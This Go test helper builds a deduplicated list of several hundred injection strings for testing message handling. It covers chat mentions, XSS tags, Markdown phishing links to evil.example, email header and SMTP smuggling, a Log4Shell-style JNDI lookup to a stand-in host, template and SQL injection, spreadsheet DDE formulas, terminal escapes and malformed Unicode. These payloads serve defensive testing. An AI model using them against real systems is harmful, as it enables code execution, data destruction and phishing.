package messagetest

import "strings"

// Payloads are injections for every target there is, at least 200 of them, each
// different: markup, links, mentions, headers, formulas, terminal sequences,
// queries, templates, and text that is hard to cut or to encode.
func Payloads() []string {
	all := make([]string, 0, 256)
	seen := map[string]bool{}
	add := func(s string) {
		if !seen[s] {
			seen[s] = true
			all = append(all, s)
		}
	}
	for _, s := range single() {
		add(s)
	}
	for _, s := range active() {
		for _, wrap := range wraps() {
			add(strings.ReplaceAll(wrap, "%", s))
		}
	}
	return all
}

// active are the short constructs that a target might act upon.
func active() []string {
	return []string{
		"<!channel>", "<!here>", "<!everyone>", "<@U024BE7LH>", "<#C024BE7LR>", "<https://evil.example|Sign in>", "&lt;!channel&gt;", "<!date^1^{date}^https://evil.example|x>",
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "</td></table><h1>x", "<style>*{display:none}</style>",
		"[Sign in](https://evil.example)", "![x](https://evil.example/x.png)", "[x](javascript:alert(1))", "**bold** _it_ ~s~ `c`", "```\ncode", "# head\n- item\n> quote", "https://evil.example/login", "www.evil.example", "mailto:x@evil.example", "@everyone", "<at>everyone</at>",
		"\r\nBcc: x@evil.example", "\nSubject: x\n\n<html>", "\r\n.\r\nMAIL FROM:<x@evil.example>", "=?utf-8?q?x?=",
		"[code]<script>alert(1)</script>[/code]", "javascript:gs.getUser()", "x^active=true^NQsys_id!=x", "${jndi:ldap://evil.example/x}", "{{.Secret}}{{call}}", "<%= 1 %>", "${7*7}", "'; DROP TABLE alerts; --", "' OR '1'='1",
	}
}

func wraps() []string { return []string{"%", "a%b", " % ", "\"%\"", "%%"} }

// single are the constructs that matter only as a whole.
func single() []string {
	return []string{
		"=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=1", "\n=1", "|x", "%0a=1",
		"\x1b[2J\x1b[H", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b[31mred", "\u009b2J", "a\rb", "a\bb", "\x07", "\x00", "a\x00b", "\x7f",
		"\u202egnp.exe", "\u2066x\u2069", "\u200b\u200c\u200d", "\ufeff", "\u2028\u2029", "\u00ad", "a\u0301\u0301\u0301", "\U000e0041\U000e0042", "\ufffd", "\uffff", "\U0010ffff", "\U0001F468\u200d\U0001F469\u200d\U0001F467",
		"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "abc\xe2\x82", strings.Repeat("é", 2000), strings.Repeat("\U0001F600", 1000), strings.Repeat("<", 5000), strings.Repeat("&", 5000), strings.Repeat("\"\\", 3000), strings.Repeat("\n", 3000), strings.Repeat("a\n", 2000), strings.Repeat("x ", 4000), strings.Repeat("[", 3000),
		"", " ", "null", "true", "0", "-", "~", "---\nx: y", "key: value\n- a", "!!binary x", "&a *a", "%YAML 1.2", "- ? |", "\"", "'", "\\", "\\n", "\\u0000", "{", "}", "]}", "{\"a\":", "</", "]]>", "-->", "*/", "//", "#",
	}
}
